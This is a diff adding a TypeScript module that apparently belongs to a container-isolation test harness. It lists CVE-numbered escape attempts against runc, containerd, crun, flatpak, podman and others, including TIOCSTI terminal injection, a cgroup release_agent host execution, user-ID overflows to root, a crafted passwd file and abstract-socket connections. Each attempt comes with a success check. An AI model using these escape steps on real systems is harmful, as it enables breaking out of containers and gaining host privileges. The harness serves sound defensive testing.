@@ -1,0 +1,146 @@
+/**
+ * Attacks of a command in a container on what it shares with the host: capabilities, users, groups, terminals, sockets.
+ *
+ * @module
+ */
+
+import { type Attack, sh } from "./attack.ts";
+import { exists, link, runHost } from "./scene.ts";
+import { runOrder } from "./engines.ts";
+
+const INHERITABLE = /^CapInh:\s*0*[1-9a-f]/m;
+
+export const PRIVILEGES: readonly Attack[] = [
+  {
+    id: "CVE-2017-5226",
+    engine: "bubblewrap",
+    title: "TIOCSTI types into the terminal of the caller",
+    order: () => ({ args: ["/attack", "tiocsti", "0"], callersTerminal: true }),
+    succeeded: (_, { output }) => output.includes("typed: injected"),
+  },
+  {
+    id: "CVE-2019-10063",
+    engine: "flatpak",
+    title: "the same with bits above the 32 that a filter compares",
+    order: () => ({ args: ["/attack", "tiocsti", "1"], callersTerminal: true }),
+    succeeded: (_, { output }) => output.includes("typed: injected"),
+  },
+  {
+    id: "CVE-2022-0492",
+    engine: "kernel, runc",
+    title: "release_agent of a v1 control group has the kernel execute a program of the host",
+    prepare: ({ host }) =>
+      Deno.writeTextFile(`${host}/agent`, `#!/bin/sh\necho executed >${host}/executed\n`, { mode: 0o755 }),
+    order: ({ host }) => ({ args: ["/attack", "agent", `${host}/agent`] }),
+    succeeded: ({ host }) => exists(`${host}/executed`),
+  },
+  {
+    id: "CVE-2023-25809",
+    engine: "runc (rootless)",
+    title: "a control group is made where the container sees the hierarchies",
+    order: () => ({
+      cgroups: true,
+      args: sh(
+        "for d in /sys/fs/cgroup /sys/fs/cgroup/*/; do mkdir $d/sauropod-escape 2>/dev/null && echo made && " +
+          "rmdir $d/sauropod-escape; done",
+      ),
+    }),
+    succeeded: (_, { output }) => output.includes("made"),
+  },
+  {
+    id: "CVE-2022-24769",
+    engine: "docker, containerd",
+    title: "the command has inheritable capabilities",
+    order: () => ({ args: sh("grep Cap /proc/self/status") }),
+    succeeded: (_, { output }) => INHERITABLE.test(output),
+  },
+  {
+    id: "CVE-2022-29162",
+    engine: "runc",
+    title: "what is executed in a running container has inheritable capabilities",
+    needs: ["exec"],
+    async attempt(scene, engine) {
+      await using live = await engine.live?.(scene, { args: ["/bin/busybox", "sleep", "20"] });
+      return await live?.exec(sh("grep Cap /proc/self/status")) ?? { code: 1, output: "" };
+    },
+    succeeded: (_, { output }) => INHERITABLE.test(output),
+  },
+  {
+    id: "CVE-2026-30892",
+    engine: "crun",
+    title: "exec as user 1 is taken for user 0",
+    needs: ["exec"],
+    async attempt(scene, engine) {
+      await using live = await engine.live?.(scene, { args: ["/bin/busybox", "sleep", "20"] });
+      return await live?.exec(sh("echo uid $(id -u)"), "1") ?? { code: 1, output: "" };
+    },
+    succeeded: (_, { output }) => output.includes("uid 0"),
+  },
+  {
+    id: "CVE-2023-25173",
+    engine: "containerd",
+    title: "supplementary groups: the caller's are kept, or the user's are not set and what is denied to them is read",
+    needs: ["users by name"],
+    async prepare({ rootfs }) {
+      await Deno.writeTextFile(`${rootfs}/denied`, "not for staff\n", { mode: 0o604 });
+      await Deno.chown(`${rootfs}/denied`, 0, 50);
+      await Deno.chmod(`${rootfs}/denied`, 0o604);
+    },
+    order: () => ({ user: "alice", args: sh("echo groups $(id -G); cat /denied") }),
+    succeeded: (_, { output }) => /groups .*\b4444\b/.test(output) || output.includes("not for staff"),
+  },
+  {
+    id: "CVE-2024-40635",
+    engine: "containerd",
+    title: "a user number above 32 bits overflows to 0",
+    order: () => ["4294967296", "4294967296:4294967296"].map((user) => ({ user, args: sh("echo uid $(id -u)") })),
+    succeeded: (_, { output }) => output.includes("uid 0"),
+  },
+  {
+    id: "CVE-2026-46680",
+    engine: "containerd",
+    title: "a user number above 32 bits is taken for a name, which the image's passwd says is root",
+    needs: ["images"],
+    prepare: ({ rootfs }) => Deno.writeTextFile(`${rootfs}/etc/passwd`, "4294967297:x:0:0::/:/bin/sh\n"),
+    order: () => ({ image: { User: "4294967297" }, args: sh("echo uid $(id -u)") }),
+    succeeded: (_, { output }) => output.includes("uid 0"),
+  },
+  {
+    id: "CVE-2024-9676",
+    engine: "podman, buildah",
+    title: "/etc/passwd and group of the image lead to a FIFO: the engine waits for ever",
+    needs: ["users by name"],
+    async prepare({ host, rootfs }) {
+      await runHost(["mkfifo", `${host}/fifo`, `${rootfs}/etc/fifo`]);
+      await link(`${host}/fifo`, `${rootfs}/etc/passwd`);
+    },
+    async attempt(scene, engine) {
+      const args = sh("true"), order = { args, user: "alice", timeout: 4000 };
+      const first = await runOrder(engine, scene, order);
+      if (first.code === 124) return first;
+      for (const name of ["passwd", "group"]) await link("fifo", `${scene.rootfs}/etc/${name}`);
+      return await runOrder(engine, scene, order);
+    },
+    succeeded: (_, { code }) => code === 124,
+  },
+  {
+    id: "CVE-2020-15257",
+    engine: "containerd",
+    title: "on the host's network the engine's abstract sockets are found and connected to",
+    needs: ["detached containers"],
+    async attempt(scene, engine) {
+      const before = new Set((await Deno.readTextFile("/proc/net/unix")).match(/@\S+/g));
+      await using live = await engine.live?.(scene, { args: ["/bin/busybox", "sleep", "20"], network: "host" });
+      void live;
+      const made = (await Deno.readTextFile("/proc/net/unix")).match(/@\S+/g)?.filter((name) => !before.has(name)) ??
+        [];
+      const all = await Promise.all(
+        (made.length > 0 ? made.slice(0, 5) : ["@nothing was made"]).map((name) =>
+          runOrder(engine, scene, { args: ["/attack", "connect", name.slice(1)], network: "host" })
+        ),
+      );
+      return { code: 0, output: all.map(({ output }) => output).join("") };
+    },
+    succeeded: (_, { output }) => output.includes("connected to"),
+  },
+];
